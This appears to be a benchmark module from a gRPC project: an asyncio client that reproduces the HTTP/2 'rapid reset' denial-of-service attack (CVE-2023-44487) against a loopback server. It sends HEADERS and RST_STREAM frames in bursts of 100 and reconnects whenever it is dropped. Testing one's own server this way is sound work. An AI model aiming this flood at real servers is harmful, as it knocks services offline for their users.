"""A hostile client: opens streams on one connection and resets each at once (CVE-2023-44487, "rapid reset").

`python -m bench.rapid_reset TARGET COUNT`; for servers on loopback. Prints {resets, connections, seconds}; where the
server closes the connection it opens another one and goes on.
"""

from __future__ import annotations

import asyncio
import json
import sys
from time import perf_counter

from bench.load_client import loop_factory
from bench.raw_http2 import connect, header_block

_METHOD = "/agenthall.observability.v1.ObservabilityService/GetDashboard"
_AT_ONCE = 100
_UNSENT_BYTES = 100_000


async def attack(target: str, count: int) -> dict[str, float]:
    """Sends that many pairs of HEADERS and RST_STREAM as fast as the server's socket takes them."""
    headers, started = header_block(_METHOD), perf_counter()
    connection, connections, sent = await connect(target), 1, 0
    while sent < count:
        if connection.closed:
            connection, connections = await connect(target), connections + 1
        if connection.unsent > _UNSENT_BYTES:
            await asyncio.sleep(0.001)
            continue
        connection.open_and_reset(headers, _AT_ONCE)
        sent += _AT_ONCE
        await asyncio.sleep(0)
    while connection.unsent and not connection.closed:  # noqa: ASYNC110 - the transport has no event for it
        await asyncio.sleep(0.001)
    connection.close()
    return {"resets": sent, "connections": connections, "seconds": perf_counter() - started}


def main() -> None:
    target, count = sys.argv[1:]
    with asyncio.Runner(loop_factory=loop_factory()) as runner:
        print(json.dumps(runner.run(attack(target, int(count)))))


if __name__ == "__main__":
    main()
